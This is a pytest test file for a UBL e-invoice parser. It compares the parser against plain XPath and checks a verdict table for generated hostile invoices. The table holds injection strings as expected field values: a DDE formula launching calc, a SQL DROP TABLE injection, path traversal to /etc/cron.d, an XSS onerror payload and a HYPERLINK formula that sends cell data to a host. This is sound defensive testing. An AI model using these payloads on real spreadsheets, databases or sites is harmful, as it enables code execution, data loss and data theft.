"""UBL on the samples beside the checkout, against plain XPath and a table of verdicts."""

from __future__ import annotations

import io
import json
import re
import time
from decimal import Decimal
from functools import cache
from pathlib import Path

import pytest
from lxml import etree

from sluss.core.records import Claim, DocumentKind, ReferenceType
from sluss.formats._reading import Reading
from sluss.formats.ubl import read_ubl, sniff, stream_ubl
from tests.needs import shared

UBL = "urn:oasis:names:specification:ubl:schema:xsd:"
NAMES = {"a": f"{UBL}CommonAggregateComponents-2", "b": f"{UBL}CommonBasicComponents-2"}
ROOTS = (f"{{{UBL}Invoice-2}}Invoice", f"{{{UBL}CreditNote-2}}CreditNote")


@cache
def whole_documents() -> tuple[tuple[str, bytes, etree._Element], ...]:
    """Every published UBL document that its schema accepts: name, bytes, tree by plain lxml."""
    folder = shared("einvoice/verdicts.jsonl").parent
    verdicts = (folder / "verdicts.jsonl").read_text(encoding="utf-8").splitlines()
    found = []
    for verdict in map(json.loads, verdicts):
        if verdict["kind"] != "doc" or not verdict["xsd_valid"]:
            continue
        content = (folder / verdict["file"]).read_bytes()
        root = etree.fromstring(content, etree.XMLParser(remove_comments=True))
        if root.tag in ROOTS:
            found.append((verdict["file"], content, root))
    return tuple(found)


def path(root: etree._Element, *steps: str) -> str:
    """The first that is not empty of some XPaths."""
    texts = (root.xpath(f"normalize-space({step})", namespaces=NAMES) for step in steps)
    return next((text for text in texts if text), "")


def is_mod_10(text: str) -> bool:
    """The check digit by hand, not by the library that the reader uses."""
    digits = [int(sign) for sign in reversed(text)]
    doubled = [sum(divmod(digit * 2, 10)) for digit in digits[1::2]]
    return (sum(digits[::2]) + sum(doubled)) % 10 == 0


def expected(root: etree._Element) -> dict[str, object]:
    due = path(root, "b:DueDate", "a:PaymentMeans[b:PaymentDueDate]/b:PaymentDueDate")
    payment_id = path(root, "//a:PaymentMeans/b:PaymentID[normalize-space()]")
    is_ocr = re.fullmatch("[0-9]{2,25}", payment_id) is not None and is_mod_10(payment_id)
    payable = Decimal(path(root, "a:LegalMonetaryTotal/b:PayableAmount"))
    is_credit = root.tag == ROOTS[1] or path(root, "b:InvoiceTypeCode") == "381"
    supplier = "a:AccountingSupplierParty/a:Party"
    giros = root.xpath(
        "//a:PayeeFinancialAccount[starts-with(a:FinancialInstitutionBranch/b:ID, 'SE:')]"
        "/b:ID/text()",
        namespaces=NAMES,
    )
    return {
        "number": path(root, "b:ID"),
        "payable": abs(payable),
        "currency": path(root, "a:LegalMonetaryTotal/b:PayableAmount/@currencyID"),
        "is credit": is_credit != (payable < 0),
        "issued": path(root, "b:IssueDate")[:10],
        "due": due[:10],
        "reference": (("ocr" if is_ocr else "text"), payment_id) if payment_id else None,
        "supplier": path(
            root,
            f"{supplier}/a:PartyLegalEntity/b:RegistrationName",
            f"{supplier}/a:PartyName/b:Name",
        ),
        "payee": path(root, "a:PayeeParty/a:PartyName/b:Name"),
        "refers to": set(
            root.xpath(
                "a:BillingReference/a:InvoiceDocumentReference/b:ID/text()", namespaces=NAMES
            )
        ),
        "giros": {number.strip().replace("-", "") for number in giros},
        "goes by itself": bool(
            set(root.xpath("a:PaymentMeans/b:PaymentMeansCode/text()", namespaces=NAMES))
            & {"48", "49", "54", "55", "59"}
        ),
    }


def read_back(claim: Claim) -> dict[str, object]:
    reference = claim.reference
    return {
        "number": claim.document_number,
        "payable": Decimal(claim.amount.text),
        "currency": claim.amount.currency,
        "is credit": claim.kind is DocumentKind.CREDIT_NOTE,
        "issued": claim.issue_date.isoformat() if claim.issue_date else "",
        "due": claim.due_date.isoformat() if claim.due_date else "",
        "reference": (reference.type.value, reference.value) if reference else None,
        "supplier": claim.supplier.name,
        "payee": claim.payee.name if claim.payee else "",
        "refers to": set(claim.refers_to),
        "giros": {
            one.number for one in claim.accounts if one.scheme.value in ("bankgiro", "plusgiro")
        },
        "goes by itself": claim.never_pay is not None,
    }


def claims(reading: Reading) -> list[Claim]:
    return [record for record in reading.records if isinstance(record, Claim)]


def test_every_whole_document_is_read_as_plain_xpath_reads_it():
    wrong, read = {}, 0
    for name, content, root in whole_documents():
        reading = read_ubl(content)
        if reading.is_refused:
            continue
        (claim,) = claims(reading)
        want, got = expected(root), read_back(claim)
        if want["payee"] and want["payee"] == want["supplier"]:
            want["payee"] = ""
        read += 1
        if want != got:
            wrong[name] = {key: (want[key], got[key]) for key in want if want[key] != got[key]}
    assert wrong == {}
    assert read > 200


def test_no_whole_document_is_refused_and_several_accounts_are_told():
    for name, content, root in whole_documents():
        numbers = root.xpath(
            "//a:PaymentMeans/a:PayeeFinancialAccount"
            "[not(starts-with(a:FinancialInstitutionBranch/b:ID, 'SE:'))]/b:ID/text()",
            namespaces=NAMES,
        )
        ibans = {number.replace(" ", "") for number in numbers if number[0].isalpha()}
        reading = read_ubl(content)
        told = {finding.code for finding in reading.findings}
        assert not reading.is_refused, name
        assert ("ubl.several_accounts" in told) == (len(ibans) > 1), name


def test_whole_documents_are_known_by_content_and_streamed_the_same():
    for name, content, _ in whole_documents():
        assert sniff(content[:4096]), name
        reading = read_ubl(content)
        if not reading.is_refused:
            items = list(stream_ubl(io.BytesIO(content)))
            assert items == [*reading.findings, *reading.records], name


def test_other_invoices_are_not_taken_for_ubl():
    folder = shared("einvoice/doc")
    others = [
        file
        for file in folder.rglob("*.xml")
        if b"CrossIndustryInvoice:100" in (head := file.read_bytes()[:4096])
        or b"urn:sfti:documents:BasicInvoice" in head
    ]
    assert [file.name for file in others if sniff(file.read_bytes()[:4096])] == []
    assert len(others) > 150


# What stands first is the good invoice. Its account does not say what kind it is, so that each
# of these has that warning, and no account to pay to.
GOOD = ("invoice", "F1001", "1250.00", "Byggfirman AB")
VERDICTS: dict[str, tuple[str, ...] | str] = {
    "00-good": GOOD,
    "cdata-account": GOOD,
    "comment-splits-account": GOOD,
    "pi-splits-account": GOOD,
    "utf16": GOOD,
    "xinclude": GOOD,
    "id-csv": ("invoice", "@SUM(1+1)*cmd|' /C calc'!A0", "1250.00", "Byggfirman AB"),
    "id-o-for-0": ("invoice", "F1OO1", "1250.00", "Byggfirman AB"),
    "id-path": ("invoice", "../../../../etc/cron.d/x", "1250.00", "Byggfirman AB"),
    "id-sql": ("invoice", "F1001'); DROP TABLE invoice;--", "1250.00", "Byggfirman AB"),
    "id-zero": ("invoice", "F01001", "1250.00", "Byggfirman AB"),
    "amount-neg": ("credit-note", "F1001", "1250.00", "Byggfirman AB"),
    "amount-negzero": ("invoice", "F1001", "0.00", "Byggfirman AB"),
    "name-ctrl85": ("invoice", "F1001", "1250.00", "Bygg\x85firman"),
    "name-dde": ("invoice", "F1001", "1250.00", "=cmd|' /C calc'!A0"),
    "name-emoji-zwj": ("invoice", "F1001", "1250.00", "👨\u200d👩\u200d👧"),
    "name-formula": (
        "invoice",
        "F1001",
        "1250.00",
        '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Byggfirman AB")',
    ),
    "name-html": ("invoice", "F1001", "1250.00", "<img src=x onerror=alert(1)>"),
    "name-rlo": ("invoice", "F1001", "1250.00", "Byggfirman \u202eBA nemrifggyB"),
    "name-zwsp": ("invoice", "F1001", "1250.00", "Bygg\u200bfirman AB"),
    **dict.fromkeys(
        (
            "amount-30dec amount-3dec amount-comma amount-exp amount-fullwidth amount-hex "
            "amount-hugeexp amount-i64 amount-inf amount-nan amount-nbsp amount-plus "
            "amount-space amount-underscore"
        ).split(),
        "ubl.bad_amount",
    ),
    "id-zwsp": "ubl.hidden_in_number",
    "two-payment-means": "ubl.two_accounts",
    **dict.fromkeys(("billion-laughs", "quadratic", "xxe-external-dtd", "xxe-http"), "xml.doctype"),
    **dict.fromkeys(("cp437", "ebcdic", "latin1-says-utf8", "utf7"), "xml.encoding"),
    **dict.fromkeys(
        (
            "bom-twice name-nul name-vt nul-bytes trailing-second-doc truncated wrong-namespace"
        ).split(),
        "xml.not_well_formed",
    ),
    "deep-100000": "xml.too_deep",
    "text-11MB": "xml.text_too_long",
}
HIDDEN = {"name-ctrl85", "name-emoji-zwj", "name-rlo", "name-zwsp"}


def verdict(file: Path) -> tuple[str, ...] | str:
    reading = read_ubl(file.read_bytes())
    refusing = [finding.code for finding in reading.findings if finding.refuses_file]
    if refusing:
        return ", ".join(refusing)
    (claim,) = reading.records
    hidden = ["ubl.hidden_characters"] if file.stem in HIDDEN else []
    assert [finding.code for finding in reading.findings] == [*hidden, "ubl.unclear_account"]
    return (claim.kind.value, claim.document_number, claim.amount.text, claim.supplier.name)


def test_every_hostile_invoice_ends_as_it_should():
    files = sorted(shared("badinput/generated/xml").glob("*.xml"))
    assert {file.stem: verdict(file) for file in files} == VERDICTS


@pytest.mark.parametrize(
    ("folder", "verdicts"),
    [
        (
            "same-invoice",
            {
                "b-reserialised": GOOD,
                "c-prefix-renamed": GOOD,
                "e-amount-1250.0": GOOD,
                "f-id-spaces": GOOD,
                "g-account-no-dash": GOOD,
                "h-name-case": ("invoice", "F1001", "1250.00", "BYGGFIRMAN AB"),
            },
        ),
        (
            "not-same-invoice",
            {
                "k-next-number": ("invoice", "F1002", "1250.00", "Byggfirman AB"),
                "l-same-number-other-supplier": ("invoice", "F1001", "1250.00", "Annan firma AB"),
            },
        ),
    ],
)
def test_the_same_invoice_reads_the_same_and_another_does_not(folder, verdicts):
    files = sorted(shared(f"badinput/generated/{folder}").glob("*.xml"))
    assert {file.stem: verdict(file) for file in files} == verdicts


def test_no_hostile_xml_raises_or_gives_what_an_entity_holds():
    began = time.monotonic()
    for file in sorted(shared("badinput/xml").rglob("*")):
        if file.is_file():
            reading = read_ubl(file.read_bytes())
            assert [finding.refuses_file for finding in reading.findings] == [True], file.name
            assert reading.records == []
    assert time.monotonic() - began < 10


def test_fragments_and_mutants_end_as_a_claim_or_a_refusal():
    folder = shared("einvoice")
    files = [
        file for part in ("unit", "probe", "mutant") for file in (folder / part).rglob("*.xml")
    ]
    for file in files:
        reading = read_ubl(file.read_bytes())
        assert bool(reading.records) != reading.is_refused, file.name
    assert len(files) > 1000


def test_the_swedish_samples_have_no_ocr_that_is_missed():
    kinds = {
        claim.reference.type
        for name, content, _ in whole_documents()
        if "sfti" in name
        for claim in claims(read_ubl(content))
        if claim.reference
    }
    assert kinds == {ReferenceType.OCR, ReferenceType.TEXT}
